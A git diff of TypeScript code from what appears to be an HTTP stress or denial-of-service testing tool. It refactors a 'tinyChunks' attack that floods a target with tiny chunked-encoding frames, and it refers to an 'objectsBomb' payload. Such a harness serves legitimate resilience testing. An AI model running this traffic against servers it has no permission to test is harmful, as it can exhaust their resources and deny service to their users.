@@ -1,5 +1,5 @@
 import { gzipSync } from 'node:zlib';
-import { countStatuses, type Headers, head, open, post, write } from '../sockets.js';
+import { type Headers, head, post, repeatOpen, write } from '../sockets.js';
 import { repeat, type Tally } from '../tally.js';
 import { type Attack, SMALL, type Target } from '../target.js';
 
@@ -91,15 +91,11 @@ function objectsBomb(): Buffer {
 /** 72 MB on the wire for 12 MB of content, on two connections. */
 async function tinyChunks(target: Target, tally: Tally, untilMs: number): Promise<void> {
   const chunks = Buffer.from('1\r\n1\r\n'.repeat(10_000));
-  await repeat(2, untilMs, async () => {
-    const socket = await open(target.http, tally);
-    if (socket === null) return;
-    countStatuses(socket, tally);
+  await repeatOpen(target, tally, 2, untilMs, async (socket) => {
     await write(socket, head('POST', PATH, { 'transfer-encoding': 'chunked' }));
     for (let sent = 0; sent < 12 * MEGA && performance.now() < untilMs; sent += 10_000) {
       if (!(await write(socket, chunks))) break;
     }
-    socket.destroy();
   });
 }
 
